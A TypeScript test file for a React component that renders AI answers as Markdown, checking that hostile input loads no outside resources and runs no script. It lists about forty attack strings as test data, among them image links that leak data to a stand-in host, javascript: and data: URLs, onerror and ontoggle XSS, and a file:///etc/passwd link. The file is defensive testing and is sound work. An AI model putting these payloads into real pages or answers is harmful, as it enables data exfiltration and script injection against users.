import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import AnswerMarkdown from './answer-markdown.tsx';

const ORIGIN = 'https://aideator.example';
const render = (text: string, streaming = false) =>
  renderToStaticMarkup(createElement(AnswerMarkdown, { text, streaming }));

/** Attributes that make a browser fetch or run something, with their values. */
function addresses(html: string): string[] {
  const found = html.matchAll(
    /\s(?:src|srcset|href|xlink:href|action|formaction|poster|data|background)="([^"]*)"/gi,
  );
  return [...found].map((match) => match[1] ?? '');
}

const HOSTILE = [
  '![x](https://evil.example/p.png?q=secret)',
  '![x](//evil.example/p.png)',
  '![x](https://aideator.example.evil.example/p.png)',
  '![x](https://aideator.example@evil.example/p.png)',
  '![x](/\\evil.example/p.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x][r]\n\n[r]: https://evil.example/p.png',
  '[![x](https://evil.example/p.png)](https://evil.example/)',
  '<img src="https://evil.example/p.png">',
  '<img src=x onerror="alert(1)">',
  '<picture><source srcset="https://evil.example/p.png"><img src="https://evil.example/p.png"></picture>',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<input type="image" src="https://evil.example/p.png">',
  '<svg><image href="https://evil.example/p.png"/><script>alert(1)</script></svg>',
  '<div style="background:url(https://evil.example/p.png)">x</div>',
  '<style>body{background:url(https://evil.example/p.png)}</style>',
  '<link rel="stylesheet" href="https://evil.example/s.css">',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/o">',
  '<form action="https://evil.example"><button formaction="https://evil.example">go</button></form>',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<script src="https://evil.example/s.js"></script><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://aideator.example/1)',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<details open ontoggle="alert(1)">x</details>',
  '```mermaid\ngraph TD; a-->b; click a "javascript:alert(1)"\n```',
  '```html\n<img src="https://evil.example/p.png">\n```',
  '$$\\href{javascript:alert(1)}{x}$$',
];

describe('a hostile answer', () => {
  it.each(HOSTILE.flatMap((text) => [[text, false] as const, [text, true] as const]))(
    'loads and runs nothing: %s (streaming: %s)',
    (text, streaming) => {
      const html = render(text, streaming);
      for (const address of addresses(html)) {
        expect(address).not.toMatch(/^\s*(javascript|data|vbscript|file|blob):/i);
        expect(new URL(address, ORIGIN).origin).toBe(ORIGIN);
      }
      expect(html).not.toMatch(
        /<(img|source|script|style|iframe|object|embed|link|meta|base|form|video|audio|svg\s*>)/i,
      );
      expect(html).not.toMatch(/<[^>]+\son[a-z]+=/i);
      expect(html).not.toMatch(/style="[^"]*url\(/i);
    },
  );

  it('is still refused when it is cut anywhere while it streams', () => {
    const text = 'see ![x](https://evil.example/p.png) and [y](javascript:alert(1)) end';
    for (let length = 1; length <= text.length; length += 1) {
      const html = render(text.slice(0, length), true);
      expect(addresses(html).join(' ')).not.toMatch(/evil|javascript/);
    }
  });
});

describe('an ordinary answer', () => {
  it('keeps links to other sites, as buttons that ask first', () => {
    const html = render('[docs](https://example.org/a)');
    expect(html).toContain('docs');
    expect(html).toContain('<button');
    expect(addresses(html)).toEqual([]);
  });

  it('shows tables, lists, code and its copy button', () => {
    const html = render(
      '# Title\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst a = 1 < 2;\n```\n\n`x`',
    );
    expect(html).toContain('Title</h4>');
    expect(html).toContain('<li');
    expect(html).toContain('<table');
    expect(html).toContain('const a = 1 &lt; 2;');
    expect(html).toContain('aria-label="Copy code"');
  });

  it('closes half-written Markdown only while it streams', () => {
    expect(render('so **very', true)).not.toContain('**');
    expect(render('so **very', false)).toContain('**very');
  });
});
